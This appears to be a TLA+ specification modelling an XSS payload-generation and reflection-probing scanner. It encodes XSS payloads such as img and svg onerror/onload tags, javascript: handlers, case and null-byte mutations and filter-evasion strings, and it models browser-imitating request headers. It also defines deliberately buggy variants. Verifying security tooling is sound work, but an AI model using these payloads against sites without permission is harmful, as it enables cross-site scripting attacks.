      [] tag = <<"i", "m", "g">> -> {<<"I", "m", "G">>, <<"i", NUL, "m", "g">>}
      [] tag = <<"s", "v", "g">> -> {<<"S", "v", "G">>, <<"s", NUL, "v", "g">>}
      [] OTHER -> {tag}

\* event_mutations.get(event, [event]), lines 907-914
event_mutations(event) ==
    CASE event = <<"o", "n", "l", "o", "a", "d">> ->
            {<<"O", "n", "L", "o", "a", "d">>, <<"O", "N", "L", "O", "A", "D">>, <<"o", "n", NUL,
                    "l", "o", "a", "d">>}
      [] event = <<"o", "n", "e", "r", "r", "o", "r">> ->
            {<<"O", "n", "E", "r", "r", "o", "r">>, <<"O", "N", "E", "R", "R", "O", "R">>, <<"o",
                    "n", NUL, "e", "r", "r", "o", "r">>}
      [] OTHER -> {event}

\* the tags of the event loop, line 911
event_tags == {<<"i", "m", "g">>, <<"s", "v", "g">>, <<"i", "f", "r", "a", "m", "e">>}

\* the js functions all of whose characters are allowed, lines 892-893, 900-901
AllowedFunctions(a) == {func \in js_functions : AllAllowed(a, func)}

\* lines 891-898: the comment-obfuscated variants of one mutated tag
CommentVariants(a, mutated_tag) ==
    IF "*" \in a.allowed_chars /\ "/" \in a.allowed_chars
    THEN UNION {{ <<"<">> \o mutated_tag \o <<">", "/", "*", "*", "/">> \o func \o <<"(", "1",
            ")", "/", "*", "*", "/">>,
                  <<"<">> \o mutated_tag \o <<">", "/", "*", "-", "-", ">">> \o func \o <<"(",
                          "1", ")", "/", "*", "*", "/">>,
                  <<"<">> \o mutated_tag \o <<">", "/", "/">> \o func \o <<"(", "1", ")">> }
                : func \in AllowedFunctions(a)}
    ELSE {}

\* lines 899-905: the null-byte variants, built on the base tag
NullByteVariants(a, tag) ==
    IF NUL \in a.allowed_chars
    THEN UNION {{ <<"<">> \o tag \o <<NUL>> \o <<">">> \o func \o <<"(", "1", ")">>,
                  <<"<">> \o tag \o <<">">> \o <<NUL>> \o func \o <<"(", "1", ")">> }
                : func \in AllowedFunctions(a)}
    ELSE {}

\* lines 886-905: the tag loop
TagPayloads(a) ==
    UNION {UNION {CommentVariants(a, mutated_tag) \cup NullByteVariants(a, tag)
                  : mutated_tag \in {m \in tag_mutations(tag) : AllAllowed(a, m)}}
           : tag \in {t \in base_tags : AllAllowed(a, t)}}

\* lines 917-922: the payloads of one tag and one event variant
EventVariants(a, tag, ev) ==
    (IF a.allows_quotes
     THEN {<<"<">> \o tag \o <<" ", "d", "a", "t", "a", "-">> \o ev \o <<"=", "\"", "a", "l",
             "e", "r", "t", "(", "1", ")", "\"", ">">>}
     ELSE {})
    \cup (IF ":" \in a.allowed_chars
          THEN {<<"<">> \o tag \o <<" ">> \o ev \o <<"=", "j", "a", "v", "a", "s", "c", "r", "i",
                  "p", "t", ":", "a", "l", "e", "r", "t", "(", "1", ")", ">">>}
          ELSE {})
    \cup (IF "&" \in a.allowed_chars /\ ";" \in a.allowed_chars
          THEN {<<"<">> \o tag \o <<" ">> \o ev \o <<"=", "&", "q", "u", "o", "t", ";", "a", "l",
                  "e", "r", "t", "(", "1", ")", "&", "q", "u", "o", "t", ";", ">">>}
          ELSE {})

\* lines 906-922: the event loop
EventPayloads(a) ==
    IF "=" \in a.allowed_chars
    THEN UNION {UNION {UNION {EventVariants(a, tag, ev)
                              : ev \in {e \in event_mutations(event) : AllAllowed(a, e)}}
                       : event \in event_handlers}
                : tag \in {t \in event_tags : AllAllowed(a, t)}}
    ELSE {}

\* generate_dynamic_payloads
generate_dynamic_payloads(a) ==
    (IF a.allows_angles /\ "<" \in a.allowed_chars /\ ">" \in a.allowed_chars
     THEN TagPayloads(a) \cup EventPayloads(a)
     ELSE {})
    \cup (IF a.allows_angles /\ a.allows_scripts
          THEN {evasion \in dom_evasions : AllAllowed(a, evasion)}
          ELSE {})
    \cup (IF AllAllowed(a, <<"j", "a", "v", "a", "s", "c", "r", "i", "p", "t", ":">>)
          THEN {evasion \in proto_evasions : AllAllowed(a, evasion)}
          ELSE {})

\* str.strip() leaves nothing: every character is whitespace
Whitespace == {" ", TAB, LF, CR, FF, VT}
IsBlank(payload) == \A i \in 1 .. Len(payload) : payload[i] \in Whitespace

\* any(char in analysis.blocked_chars for char in payload)
HasBlocked(a, payload) == \E i \in 1 .. Len(payload) : payload[i] \in a.blocked_chars

\* lines 958-959: the length filter, skipped when max_length is None or 0
LengthFilter(a, all_payloads) ==
    IF a.max_length # None /\ a.max_length # Some(0)
    THEN {p \in all_payloads : \A m \in a.max_length : Len(p) <= m}
    ELSE all_payloads

\* lines 960-965 as a bug would have them: of the payloads that pass, one is
\* lost on each pass
BlockedFilterLosesOne(a, all_payloads) ==
    LET kept == {p \in all_payloads : ~IsBlank(p) /\ ~HasBlocked(a, p)}
    IN  IF kept = {} THEN {} ELSE kept \ {CHOOSE p \in kept : TRUE}
\* lines 960-965 as a bug would have them: blocked characters pass
BlankFilterOnly(a, all_payloads) == {p \in all_payloads : ~IsBlank(p)}
\* lines 960-965: blank strings and payloads with a blocked character are dropped
BlockedFilter(a, all_payloads) ==
    {p \in all_payloads : ~IsBlank(p) /\ ~HasBlocked(a, p)}

\* lines 958-965: the final filter
FinalFilter(a, all_payloads) == BlockedFilter(a, LengthFilter(a, all_payloads))

\* generate_payloads (the list it returns holds each payload once: a set)
generate_payloads(a) ==
    FinalFilter(a, get_predefined_payloads(a) \cup generate_dynamic_payloads(a))

(***************************************************************************)
(* ParamAnalysis as analyze_parameter builds it, src/xssdynagen.py:1033-1076*)
(***************************************************************************)
\* lines 1064-1076: the profile of a swept parameter
SweptProfile(url, param, allowed, blocked, scripts, events, length) ==
    [param |-> param, url |-> url,
     allowed_chars |-> allowed,
     blocked_chars |-> blocked,
     max_length |-> length,
     allows_spaces |-> " " \in allowed,
     allows_quotes |-> "\"" \in allowed \/ "'" \in allowed,
     allows_angles |-> "<" \in allowed /\ ">" \in allowed,
     allows_parens |-> "(" \in allowed /\ ")" \in allowed,
     allows_scripts |-> scripts,
     allows_events |-> events]

\* lines 1033-1045: the profile of a parameter that fails the viability gate
GateFailedProfile(url, param) ==
    [param |-> param, url |-> url,
     allowed_chars |-> {},
     blocked_chars |-> {},
     max_length |-> None,
     allows_spaces |-> FALSE,
     allows_quotes |-> FALSE,
     allows_angles |-> FALSE,
     allows_parens |-> FALSE,
     allows_scripts |-> FALSE,
     allows_events |-> FALSE]

(***************************************************************************)
(* The synthesizer on the profiles of one parameter                        *)
(***************************************************************************)
\* the characters the built-in catalog probes
DefaultUniverse ==
    UNION {Chars(DefaultCharGroups[g].chars) : g \in 1 .. Len(DefaultCharGroups)}

\* classes of characters a server reflects or blocks together
Chunks == {
    Chars(<<"a", "b", "c", "d", "e", "f", "g", "h", "i", "j", "k", "l", "m", "n", "o", "p", "q",
            "r", "s", "t", "u", "v", "w", "x", "y", "z">>),
    Chars(<<"A", "B", "C", "D", "E", "F", "G", "H", "I", "J", "K", "L", "M", "N", "O", "P", "Q",
            "R", "S", "T", "U", "V", "W", "X", "Y", "Z">>),
    Chars(<<"0", "1", "2", "3", "4", "5", "6", "7", "8", "9">>),
    {"<", ">"}, {"="}, {"/"}, {"\"", "'"}, {"(", ")"}, {"*"}, {NUL}, {":"}, {"&", ";"},
    {" "}}

\* how many classes a server blocks, or reflects, in the profiles tried
MaxChunks == 2

ChunkSets == {S \in SUBSET Chunks : Cardinality(S) <= MaxChunks}

\* the sets of reflected characters tried: all but a few classes, or only a few
AllowedChoices ==
    {DefaultUniverse \ UNION S : S \in ChunkSets} \cup {UNION S : S \in ChunkSets}

\* the lengths quick_test_length returned, among them both ends of its range
LengthChoices == {LengthLow - 1, 21, 45, LengthHigh}

\* profiles of a server that strips one angle bracket only, and the profile
\* of a character file without the angle brackets, all of it reflected
AngleProfiles ==
    {SweptProfile("u", "p", DefaultUniverse \ {c}, {c}, TRUE, TRUE, Some(LengthHigh))
     : c \in {"<", ">"}}
    \cup {SweptProfile("u", "p", DefaultUniverse \ {"<", ">"}, {}, TRUE, TRUE, Some(LengthHigh))}

SynthProfiles ==
    {GateFailedProfile("u", "p")}
    \cup AngleProfiles
    \cup {SweptProfile("u", "p", allowed, DefaultUniverse \ allowed, scripts, events, Some(m))
          : allowed \in AllowedChoices, scripts \in BOOLEAN, events \in BOOLEAN,
            m \in LengthChoices}

(***************************************************************************)
(* The probes, src/xssdynagen.py:745-758 and 979-1015                      *)
(***************************************************************************)
\* response.status of a page that was served
HttpOk == 200

\* what a request comes back with: a response (its status, and whether the
\* doubled character is in its body), a timeout, or another exception
Served(status, reflected) == [kind |-> "response", status |-> status, reflected |-> reflected]
TimedOut == [kind |-> "timeout", status |-> 0, reflected |-> FALSE]
Failed == [kind |-> "exception", status |-> 0, reflected |-> FALSE]

\* the answer of the server to the probe of char
Nominal(char) == Served(HttpOk, char \in reflects)

\* the answers of a network or a server in trouble; an error page may well
\* echo the query
FaultResponses == {TimedOut, Failed, Served(404, TRUE), Served(500, FALSE)}

\* test_single_char as a bug would have it: the status is not looked at
test_single_char_any_status(resp) ==
    [value |-> resp.kind = "response" /\ resp.reflected, raised |-> FALSE]
\* test_single_char, lines 745-758: the value returned, and whether the call
\* raised instead of returning
test_single_char(resp) ==
    IF resp.kind # "response"
    THEN [value |-> FALSE, raised |-> FALSE]              \* except Exception
    ELSE IF resp.status # HttpOk
         THEN [value |-> FALSE, raised |-> FALSE]
         ELSE [value |-> resp.reflected, raised |-> FALSE]

\* test_single of test_chars_batch on a cache miss, lines 986-1002
test_single(resp) ==
    IF resp.kind # "response"
    THEN [value |-> FALSE, raised |-> FALSE]              \* except (TimeoutError, Exception)
    ELSE IF resp.status # HttpOk
         THEN [value |-> FALSE, raised |-> FALSE]
         ELSE [value |-> resp.reflected, raised |-> FALSE]

\* any(...) over the results of a gather
AnyTrue(rs) == \E k \in DOMAIN rs : rs[k]

NoResults == [k \in {} |-> FALSE]
NoCounts == [c \in {} |-> 0]

\* the requests sent so far, and those of the probes batch[k], k in idxs
AddSent(s, chars, idxs) ==
    [c \in (DOMAIN s) \cup {chars[k] : k \in idxs} |->
        (IF c \in DOMAIN s THEN s[c] ELSE 0) + Cardinality({k \in idxs : chars[k] = c})]

\* batch_size = 20, lines 1004 and 1046
batch_size == 20

Min(a, b) == IF a <= b THEN a ELSE b

\* [chars[i:i + batch_size] for i in range(0, len(chars), batch_size)]
NumBatches(n) == (n + batch_size - 1) \div batch_size
BatchAt(text, b) == SubSeq(text, (b - 1) * batch_size + 1, Min(b * batch_size, Len(text)))

(***************************************************************************)
(* analyze_parameter: the gate and the sweep, src/xssdynagen.py:1026-1058  *)
(***************************************************************************)
HasGroup(groups, name) == \E g \in 1 .. Len(groups) : groups[g].name = name
Group(groups, name) == groups[CHOOSE g \in 1 .. Len(groups) : groups[g].name = name].chars

\* min(10, len(...)) of line 1026
GateSize == 10

\* sample_chars, lines 1026-1027
sample_chars(groups) ==
    SubSeq(Group(groups, "basic"), 1, Min(GateSize, Len(Group(groups, "basic"))))

\* the test of line 1032, as a bug would have it: the sweep always follows
GateAlwaysPassed(rs) == TRUE
\* the test of line 1032: some sampled character is reflected
GatePassed(rs) == AnyTrue(rs)

\* the sweep as bugs would have it: the first batch of every group only;
\* every group gathered whole
SweepFirstBatches(groups) == [g \in 1 .. Len(groups) |-> BatchAt(groups[g].chars, 1)]
SweepWholeGroups(groups) == [g \in 1 .. Len(groups) |-> groups[g].chars]

\* the batches of lines 1048-1051, group after group in the catalog's order
RECURSIVE SweepBatchesFrom(_, _)
SweepBatchesFrom(groups, g) ==
    IF g > Len(groups) THEN <<>>
    ELSE [b \in 1 .. NumBatches(Len(groups[g].chars)) |-> BatchAt(groups[g].chars, b)]
         \o SweepBatchesFrom(groups, g + 1)

SweepBatches(groups) == SweepBatchesFrom(groups, 1)

\* line 1056 as a bug would have it: the first result of a character is kept
DictKeepFirst(rs, chars, brs) ==
    [c \in (DOMAIN rs) \cup Chars(chars) |->
        IF c \in DOMAIN rs THEN rs[c]
        ELSE brs[CHOOSE k \in 1 .. Len(chars) :
                    /\ chars[k] = c
                    /\ \A j \in 1 .. Len(chars) : chars[j] = c => k <= j]]

\* results.update(dict(zip(batch, batch_results))), line 1056
DictUpdate(rs, chars, brs) ==
    [c \in (DOMAIN rs) \cup Chars(chars) |->
        IF c \in Chars(chars)
        THEN brs[CHOOSE k \in 1 .. Len(chars) :
                    /\ chars[k] = c
                    /\ \A j \in 1 .. Len(chars) : chars[j] = c => j <= k]
        ELSE rs[c]]

\* line 1058 as a bug would have it: every probed character is blocked
blocked_chars_all(rs) == DOMAIN rs

\* lines 1057-1058
allowed_chars(rs) == {c \in DOMAIN rs : rs[c]}
blocked_chars(rs) == {c \in DOMAIN rs : ~rs[c]}

\* quick_test_scripts, lines 761-778: test_payloads
script_test_payloads == <<
    \* '<script>'
    <<"<", "s", "c", "r", "i", "p", "t", ">">>,
    \* '<SCRIPT>'
    <<"<", "S", "C", "R", "I", "P", "T", ">">>,
    \* '<ScRiPt>'
    <<"<", "S", "c", "R", "i", "P", "t", ">">>,
    \* '<%73cript>'
    <<"<", "%", "7", "3", "c", "r", "i", "p", "t", ">">>,
    \* '<scr<script>ipt>'
    <<"<", "s", "c", "r", "<", "s", "c", "r", "i", "p", "t", ">", "i", "p", "t", ">">>,
    \* '<svg/script>'
    <<"<", "s", "v", "g", "/", "s", "c", "r", "i", "p", "t", ">">>,
    \* '<<script>>'
    <<"<", "<", "s", "c", "r", "i", "p", "t", ">", ">">>,
    \* '</script>'
    <<"<", "/", "s", "c", "r", "i", "p", "t", ">">>,
    \* '<script/>'
    <<"<", "s", "c", "r", "i", "p", "t", "/", ">">>,
    \* '\\x3Cscript\\x3E'
    <<"\\", "x", "3", "C", "s", "c", "r", "i", "p", "t", "\\", "x", "3", "E">>,
    \* '&lt;script&gt;'
    <<"&", "l", "t", ";", "s", "c", "r", "i", "p", "t", "&", "g", "t", ";">>,
    \* '&#x3C;script&#x3E;'
    <<"&", "#", "x", "3", "C", ";", "s", "c", "r", "i", "p", "t", "&", "#", "x", "3", "E",
    ";">>,
    \* '<img src=x onerror='
    <<"<", "i", "m", "g", " ", "s", "r", "c", "=", "x", " ", "o", "n", "e", "r", "r", "o", "r",
    "=">>,
    \* '<svg onload='
    <<"<", "s", "v", "g", " ", "o", "n", "l", "o", "a", "d", "=">>,
    \* '<iframe onload='
    <<"<", "i", "f", "r", "a", "m", "e", " ", "o", "n", "l", "o", "a", "d", "=">>,
    \* '<video onloadstart='
    <<"<", "v", "i", "d", "e", "o", " ", "o", "n", "l", "o", "a", "d", "s", "t", "a", "r", "t",
    "=">>
>>

\* quick_test_events, lines 786-804: test_payloads
event_test_payloads == <<
    \* 'onmouseover='
    <<"o", "n", "m", "o", "u", "s", "e", "o", "v", "e", "r", "=">>,
    \* 'onclick='
    <<"o", "n", "c", "l", "i", "c", "k", "=">>,
    \* 'onerror='
    <<"o", "n", "e", "r", "r", "o", "r", "=">>,
    \* 'onload='
    <<"o", "n", "l", "o", "a", "d", "=">>,
    \* 'onmouseenter='
    <<"o", "n", "m", "o", "u", "s", "e", "e", "n", "t", "e", "r", "=">>,
    \* 'onmouseleave='
    <<"o", "n", "m", "o", "u", "s", "e", "l", "e", "a", "v", "e", "=">>,
    \* 'onfocus='
    <<"o", "n", "f", "o", "c", "u", "s", "=">>,
    \* 'onblur='
    <<"o", "n", "b", "l", "u", "r", "=">>,
    \* 'onkeyup='
    <<"o", "n", "k", "e", "y", "u", "p", "=">>,
    \* 'onkeydown='
    <<"o", "n", "k", "e", "y", "d", "o", "w", "n", "=">>,
    \* 'ondblclick='
    <<"o", "n", "d", "b", "l", "c", "l", "i", "c", "k", "=">>,
    \* 'oncontextmenu='
    <<"o", "n", "c", "o", "n", "t", "e", "x", "t", "m", "e", "n", "u", "=">>,
    \* 'ondrag='
    <<"o", "n", "d", "r", "a", "g", "=">>,
    \* 'ondragend='
    <<"o", "n", "d", "r", "a", "g", "e", "n", "d", "=">>,
    \* 'onkeypress='
    <<"o", "n", "k", "e", "y", "p", "r", "e", "s", "s", "=">>,
    \* 'onchange='
    <<"o", "n", "c", "h", "a", "n", "g", "e", "=">>,
    \* 'onsubmit='
    <<"o", "n", "s", "u", "b", "m", "i", "t", "=">>
>>

(***************************************************************************)
(* The reflection tests, src/xssdynagen.py:760-821 and 979-1015            *)
(***************************************************************************)
Tests == {"scripts", "events", "length"}

\* the URL and the parameter under analysis
Url == "u"
Param == "p"

\* cache_key = f"{url}:{param}:{char}", line 982
cache_key(char) == <<Url, Param, char>>

\* the state of one of the three coroutines: its loop variables (i, or left
\* and right), and of the test_chars_batch call it awaits the batch b, the
\* CacheManager of the call, the requests in flight, whether a task of the
\* batch got True from the cache; then the value it returned
TestStart(q) ==
    [pc |-> "run",
     i |-> IF q = "length" THEN 0 ELSE 1,
     left |-> IF q = "length" THEN LengthLow ELSE 0,
     right |-> IF q = "length" THEN LengthHigh ELSE 0,
     b |-> 0, tcache |-> EmptyCache, waiting |-> {}, hit_true |-> FALSE,
     calls |-> 0, result |-> None]

TestIdle == [TestStart("scripts") EXCEPT !.pc = "idle"]

test_payloads(q) == IF q = "scripts" THEN script_test_payloads ELSE event_test_payloads

\* the string handed to test_chars_batch, a test payload or 'A' * mid: its
\* length and its characters
TestLen(q, st) ==
    IF q = "length" THEN Mid(st.left, st.right) ELSE Len(test_payloads(q)[st.i])
TestChar(q, st, p) ==
    IF q = "length" THEN "A" ELSE test_payloads(q)[st.i][p]

\* char_batches[b - 1], line 1005
TestBatch(q, st, b) ==
    [k \in 1 .. Min(batch_size, TestLen(q, st) - (b - 1) * batch_size) |->
        TestChar(q, st, (b - 1) * batch_size + k)]

\* cache.get of the tasks of a batch: the tasks answered from the cache, and
\* the cache once every task has looked its key up
CacheHits(c, chars, t) ==
    {k \in 1 .. Len(chars) : CacheGetResult(c, cache_key(chars[k]), t) # None}
AfterLookups(c, chars, t) ==
    [key \in {j \in DOMAIN c : \/ j \in DOMAIN CacheGetCache(c, j, t)
                               \/ j \notin {cache_key(ch) : ch \in Chars(chars)}}
        |-> c[key]]

RECURSIVE RunBatch(_, _, _, _)
RECURSIVE CallReturns(_, _, _, _)

\* the characters after batch b that the cache does not answer False for
OpenChars(q, st, b, t) ==
    {ch \in {TestChar(q, st, p) : p \in (b * batch_size + 1) .. TestLen(q, st)} :
        CacheGetResult(st.tcache, cache_key(ch), t) # Some(FALSE)}

\* the first batch after batch b whose gather needs the network (a task
\* misses the cache) or ends the call (a task gets True from the cache); 0
\* when the tasks of every batch left get False from the cache
NextStop(q, st, b, t) ==
    IF OpenChars(q, st, b, t) = {} THEN 0
    ELSE CHOOSE b1 \in (b + 1) .. NumBatches(TestLen(q, st)) :
            /\ Chars(TestBatch(q, st, b1)) \cap OpenChars(q, st, b, t) # {}
            /\ \A b2 \in (b + 1) .. (b1 - 1) :
                  Chars(TestBatch(q, st, b2)) \cap OpenChars(q, st, b, t) = {}

\* lines 1007-1012: the gather of a batch returned; the batches whose tasks
\* all get False from the cache are gathered without a request
BatchDone(q, st, any_true, t) ==
    IF any_true THEN CallReturns(q, st, TRUE, t)
    ELSE IF NextStop(q, st, st.b, t) # 0
         THEN RunBatch(q, st, NextStop(q, st, st.b, t), t)
         ELSE CallReturns(q, st, FALSE, t)

\* lines 1007-1008 and 982-985: the tasks of batch b are created and look
\* their keys up; those that miss send their request
RunBatch(q, st, b, t) ==
    LET hits == CacheHits(st.tcache, TestBatch(q, st, b), t)
        hit_true == \E k \in hits :
                       TRUE \in CacheGetResult(st.tcache, cache_key(TestChar(q, st,
                                                   (b - 1) * batch_size + k)), t)
        st1 == [st EXCEPT !.b = b, !.tcache = AfterLookups(@, TestBatch(q, st, b), t),
                          !.hit_true = hit_true]
    IN  IF hits # DOMAIN TestBatch(q, st, b)
        THEN [st1 EXCEPT !.pc = "wait", !.waiting = (DOMAIN TestBatch(q, st, b)) \ hits]
        ELSE BatchDone(q, st1, hit_true, t)

\* lines 980 and 1004-1006: a call of test_chars_batch begins
BeginCall(q, st, t) ==
    LET st0 == [st EXCEPT !.tcache = EmptyCache, !.b = 0, !.waiting = {},
                          !.hit_true = FALSE, !.calls = @ + 1]
    IN  IF NumBatches(TestLen(q, st)) = 0
        THEN CallReturns(q, st0, FALSE, t)
        ELSE RunBatch(q, st0, 1, t)

Returned(st, value) ==
    [st EXCEPT !.pc = "done", !.result = value, !.tcache = EmptyCache, !.b = 0,
               !.waiting = {}, !.hit_true = FALSE]

\* test_chars_batch returned allowed to the loop that called it: lines
\* 779-783, 805-809 and 813-821
CallReturns(q, st, allowed, t) ==
    IF q = "length"
    THEN LET l == IF allowed THEN Mid(st.left, st.right) + 1 ELSE st.left
             r == IF allowed THEN st.right ELSE Mid(st.left, st.right) - 1
             st1 == [st EXCEPT !.left = l, !.right = r]
         IN  IF l <= r THEN BeginCall(q, st1, t)
             ELSE Returned(st1, LengthResult(l, r))
    ELSE IF allowed THEN Returned(st, Some(TRUE))
         ELSE IF st.i < Len(test_payloads(q))
              THEN BeginCall(q, [st EXCEPT !.i = @ + 1], t)
              ELSE Returned(st, Some(FALSE))

\* lines 747 and 988: test_params = {param: char * 2}, the value of the
\* parameter in the request of a character
test_params(char) == <<char, char>>

\* the characters whose requests a coroutine has in flight
InFlight(q, st) ==
    IF st.pc = "wait" THEN TestBatch(q, st, st.b) ELSE <<>>

(***************************************************************************)
(* The sessions the requests are sent through, src/xssdynagen.py:515-552,  *)
(* 729-743, 1006 and 1020-1025                                             *)
(***************************************************************************)
\* line 29
DEFAULT_MAX_CONNECTIONS == 40

\* the values get_default_headers draws with random.choice
chrome_versions == {"122.0.6261.112", "121.0.6167.184", "120.0.6099.130"}
languages ==
    {"en-US,en;q=0.9", "en-GB,en;q=0.9", "en-US,en;q=0.9,es;q=0.8", "en-US,en;q=0.9,fr;q=0.8"}
fetch_sites == {"none", "same-origin", "same-site"}
priorities == {"u=0, i", "u=1, i"}
viewport_widths == {"1920", "1600", "1440"}
device_memories == {"8", "4", "6"}

\* get_default_headers, lines 515-552, for one draw of its random choices
get_default_headers(chrome_version, language, site, priority, width, memory) ==
    [name \in {"User-Agent", "Accept", "Accept-Language", "Accept-Encoding", "Cache-Control",
               "Pragma", "Sec-Ch-Ua", "Sec-Ch-Ua-Mobile", "Sec-Ch-Ua-Platform",
               "Sec-Ch-Ua-Platform-Version", "Sec-Ch-Ua-Full-Version-List", "Sec-Fetch-Site",
               "Sec-Fetch-Mode", "Sec-Fetch-User", "Sec-Fetch-Dest",
               "Upgrade-Insecure-Requests", "Connection", "Priority", "Viewport-Width",
               "Device-Memory", "Permissions-Policy", "DNT"} |->
        CASE name = "User-Agent" ->
                "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/"
                \o chrome_version \o " Safari/537.36"
          [] name = "Accept" ->
                "text/html,application/xhtml+xml,application/xml;q=0.9,image/webp,image/apng,*/*;q=0.8,application/signed-exchange;v=b3;q=0.7"
          [] name = "Accept-Language" -> language
          [] name = "Accept-Encoding" -> "gzip, deflate, br"
          [] name = "Cache-Control" -> "no-cache"
          [] name = "Pragma" -> "no-cache"
          [] name = "Sec-Ch-Ua" ->
                "\"Chromium\";v=\"" \o chrome_version \o "\", \"Google Chrome\";v=\""
                \o chrome_version \o "\", \"Not(A:Brand\";v=\"24\""
          [] name = "Sec-Ch-Ua-Mobile" -> "?0"
          [] name = "Sec-Ch-Ua-Platform" -> "\"Windows\""
          [] name = "Sec-Ch-Ua-Platform-Version" -> "\"15.0.0\""
          [] name = "Sec-Ch-Ua-Full-Version-List" ->
                "\"Chromium\";v=\"" \o chrome_version \o "\", \"Google Chrome\";v=\""
                \o chrome_version \o "\", \"Not(A:Brand\";v=\"24.0.0.0\""
          [] name = "Sec-Fetch-Site" -> site
          [] name = "Sec-Fetch-Mode" -> "navigate"
          [] name = "Sec-Fetch-User" -> "?1"
          [] name = "Sec-Fetch-Dest" -> "document"
          [] name = "Upgrade-Insecure-Requests" -> "1"
          [] name = "Connection" -> "keep-alive"
          [] name = "Priority" -> priority
          [] name = "Viewport-Width" -> width
          [] name = "Device-Memory" -> memory
          [] name = "Permissions-Policy" -> "interest-cohort=()"
          [] name = "DNT" -> "1"]

\* every mapping get_default_headers may return
DefaultHeaders ==
    {get_default_headers(v, l, s, p, w, m) :
        v \in chrome_versions, l \in languages, s \in fetch_sites, p \in priorities,
        w \in viewport_widths, m \in device_memories}

\* a session created without a headers argument
NoHeaders == [name \in {} |-> ""]

\* headers.update(self.custom_headers), line 738
HeadersUpdate(headers, custom) ==
    [name \in (DOMAIN headers) \cup (DOMAIN custom) |->
        IF name \in DOMAIN custom THEN custom[name] ELSE headers[name]]

\* the headers of self.session, lines 737-743, for one draw of the defaults
init_session(defaults) == HeadersUpdate(defaults, custom_headers)

\* the headers of the session of analyze_parameter, line 1025:
\* aiohttp.ClientSession(connector=connector)
parameter_session == NoHeaders

\* the headers of the session of a test_chars_batch call, line 1006:
\* aiohttp.ClientSession()
batch_session == NoHeaders

\* TCPConnector(limit=...), lines 1020-1024: of the tasks that wait for their
\* response, those that hold a connection; the others queue for one in the
\* order the gather created them. A limit of 0 is no limit
Pool(limit, tasks) ==
    IF limit = 0 THEN tasks
    ELSE {k \in tasks : Cardinality({j \in tasks : j < k}) < limit}

\* the requests of a step go through a session with these headers
SentThrough(headers) ==
    request_headers' = IF sent' # sent THEN request_headers \cup {headers}
                       ELSE request_headers

\* no request was sent, the configuration is the default one
NetIdle ==
    /\ max_connections = DEFAULT_MAX_CONNECTIONS
    /\ custom_headers = NoHeaders
    /\ request_headers = {}

(***************************************************************************)
(* The catalogs and the servers a parameter is analyzed with               *)
(***************************************************************************)
\* catalogs as a character file gives them: two small groups that share a
\* character, a 'basic' group longer than the gate's sample, no 'basic' group
SmallCatalog == <<
    [name |-> "basic", chars |-> <<"a", "b">>],
    [name |-> "special", chars |-> <<"<", "a", ">">>] >>
LongBasicCatalog == <<
    [name |-> "basic", chars |-> <<"a", "b", "c", "d", "e", "f", "g", "h", "i", "j", "k">>] >>
NoBasicCatalog == <<
    [name |-> "special", chars |-> <<"<", ">">>] >>

\* a group of more characters than a batch has, and a group that repeats a
\* character as the built-in 'comments' and 'event_handlers' groups do
WideCatalog == <<
    [name |-> "basic", chars |-> <<"a", "b">>],
    [name |-> "wide", chars |-> <<"c", "d", "e", "f", "g", "h", "i", "j", "k", "l", "m", "n",
                                  "o", "p", "q", "r", "s", "t", "u", "v", "w">>] >>
RepeatCatalog == <<
    [name |-> "basic", chars |-> <<"a", "b">>],
    [name |-> "twice", chars |-> <<"b", "<", "b">>] >>

Catalogs == {SmallCatalog, LongBasicCatalog, NoBasicCatalog, WideCatalog, RepeatCatalog}

\* every character a probe is sent for
ProbeUniverse ==
    UNION {UNION {Chars(c[g].chars) : g \in 1 .. Len(c)} : c \in Catalogs}
    \cup UNION {Chars(script_test_payloads[i]) : i \in 1 .. Len(script_test_payloads)}
    \cup UNION {Chars(event_test_payloads[i]) : i \in 1 .. Len(event_test_payloads)}
    \cup {"A"}

\* servers: one echoes everything, one nothing, one three letters only, one
\* strips the angle brackets, one does not echo the capital A
EchoAll == ProbeUniverse
EchoNone == {}
EchoLetters == {"a", "b", "A"}
EchoNoAngles == ProbeUniverse \ {"<", ">"}
EchoNoCapitalA == ProbeUniverse \ {"A"}

Servers == {EchoAll, EchoNone, EchoLetters, EchoNoAngles, EchoNoCapitalA}

\* how many responses the network spoils during one analysis
MaxFaults == 1

\* the analyses explored: the catalog, the server, the responses spoiled,
\* the connections allowed (the default, or fewer than a gate's probes) and
\* the headers of the user
Scenarios ==
    {<<SmallCatalog, server, MaxFaults, DEFAULT_MAX_CONNECTIONS, NoHeaders>> : server \in Servers}
    \cup {<<LongBasicCatalog, EchoAll, 0, 4, [name \in {"Cookie"} |-> "sid=1"]>>,
          <<LongBasicCatalog, EchoNone, 0, 4, [name \in {"User-Agent"} |-> "probe"]>>}
    \cup {<<NoBasicCatalog, EchoAll, 0, DEFAULT_MAX_CONNECTIONS, NoHeaders>>}
    \cup {<<WideCatalog, EchoLetters, 0, 2, NoHeaders>>,
          <<RepeatCatalog, EchoAll, MaxFaults, DEFAULT_MAX_CONNECTIONS, NoHeaders>>}

ParamStart ==
    /\ \E scenario \in Scenarios : /\ char_groups = scenario[1]
                                   /\ reflects = scenario[2]
                                   /\ faults = scenario[3]
                                   /\ max_connections = scenario[4]
                                   /\ custom_headers = scenario[5]
    /\ request_headers = {}
    /\ apc = "start"
    /\ bi = 0
    /\ batch = <<>>
    /\ waiting = {}
    /\ batch_results = NoResults
    /\ initial_results = None
    /\ results = NoResults
    /\ quick = [q \in Tests |-> TestIdle]
    /\ sent = NoCounts
    /\ swept = <<>>

\* analyze_parameter not running, whatever the catalog
ParamRest ==
    /\ reflects = {}
    /\ faults = 0
    /\ apc = "idle"
    /\ bi = 0
    /\ batch = <<>>
    /\ waiting = {}
    /\ batch_results = NoResults
    /\ initial_results = None
    /\ results = NoResults
    /\ quick = [q \in Tests |-> TestIdle]
    /\ sent = NoCounts
    /\ swept = <<>>

ParamIdle == char_groups = <<>> /\ ParamRest

(***************************************************************************)
(* The run: analyze_url and process_urls, src/xssdynagen.py:1078-1193      *)
(***************************************************************************)
\* a dict, as a function
EmptyDict == [k \in {} |-> {}]
DictSet(d, key, value) == [k \in (DOMAIN d) \cup {key} |-> IF k = key THEN value ELSE d[k]]

\* a scan target: the URL and the parameter names extract_parameters finds
\* in its query, in the order of the query
Target(url, params) == [url |-> url, params |-> params]
extract_parameters(target) == target.params

\* the runs tried: one URL or two, with one parameter or two
TwoParams == Target("http://h/a?p=1&q=2", <<"p", "q">>)
